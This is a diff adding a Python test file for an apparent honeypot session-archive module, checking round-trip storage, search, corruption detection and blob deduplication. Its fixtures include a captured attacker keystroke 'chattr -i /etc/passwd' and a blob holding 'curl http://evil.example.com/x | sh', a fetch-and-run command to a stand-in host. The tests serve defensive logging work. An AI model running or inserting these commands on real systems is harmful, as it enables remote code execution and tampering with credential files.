@@ -0,0 +1,95 @@
+import base64
+import gzip
+import hashlib
+import os
+import sys
+import tempfile
+from datetime import datetime
+
+from storage import retention
+
+SESSION_ID = "5f0c1d9e-0000-4000-8000-000000000001"
+DAY = "2026-01-15"
+STARTED = datetime(2026, 1, 15, 3, 4, 5)
+
+
+def _chunk(direction: str, data: bytes) -> dict:
+    return {"timestamp": STARTED, "direction": direction, "data": base64.b64encode(data).decode()}
+
+
+def test_partition_roundtrip() -> None:
+    with tempfile.TemporaryDirectory() as root:
+        retention.write_partition(root, DAY, "sessions", [
+            {"session_id": SESSION_ID, "session": {"session_id": SESSION_ID, "source_ip": "203.0.113.9", "started_at": STARTED}},
+        ])
+        retention.write_partition(root, DAY, "keystrokes", [
+            {"session_id": SESSION_ID, "chunks": [_chunk("input", b"chattr -i /etc/passwd\r"), _chunk("output", b"# ")]},
+        ])
+
+        bundle = retention.load_session(root, SESSION_ID)
+        assert bundle is not None, "Archived session not found"
+        assert bundle["session"]["source_ip"] == "203.0.113.9"
+        assert bundle["session"]["started_at"] == STARTED
+        assert len(bundle["keystrokes"]) == 2
+
+        assert list(retention.search(root, "CHATTR -i")) == [SESSION_ID]
+        assert list(retention.search(root, "chattr", start="2026-02-01")) == []
+
+    print(f"[+] PASS — archived session reloaded and searchable")
+
+
+def test_verification_detects_corruption() -> None:
+    with tempfile.TemporaryDirectory() as root:
+        entry = retention.write_partition(root, DAY, "sessions", [{"session_id": SESSION_ID, "session": {}}])
+        path = os.path.join(root, DAY, entry["file"])
+        with gzip.open(path, "wb") as f:
+            f.write(b'{"session_id": "tampered"}\n')
+
+        try:
+            retention.verify(path, entry)
+        except IOError:
+            pass
+        else:
+            raise AssertionError("Corrupted partition passed verification")
+
+    print(f"[+] PASS — corrupted partition rejected")
+
+
+def test_failed_partition_discarded() -> None:
+    def records():
+        yield {"session_id": SESSION_ID, "chunks": []}
+        raise RuntimeError("keystroke fetch failed")
+
+    with tempfile.TemporaryDirectory() as root:
+        try:
+            retention.write_partition(root, DAY, "keystrokes", records())
+        except RuntimeError:
+            pass
+        else:
+            raise AssertionError("Partition failure swallowed")
+        assert os.listdir(os.path.join(root, DAY)) == [], "Partial partition or manifest entry left behind"
+
+    print(f"[+] PASS — failed partition leaves no file or manifest entry")
+
+
+def test_blob_dedup() -> None:
+    content = b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n"
+    sha = hashlib.sha256(content).hexdigest()
+    with tempfile.TemporaryDirectory() as root:
+        retention.write_blob(root, sha, content)
+        retention.write_blob(root, sha, content)
+        assert retention.read_blob(root, sha) == content
+
+    print(f"[+] PASS — blob stored content-addressed")
+
+
+if __name__ == "__main__":
+    try:
+        test_partition_roundtrip()
+        test_verification_detects_corruption()
+        test_failed_partition_discarded()
+        test_blob_dedup()
+        print("\n[+] All retention tests passed.")
+    except AssertionError as exc:
+        print(f"\n[-] FAIL: {exc}", file=sys.stderr)
+        sys.exit(1)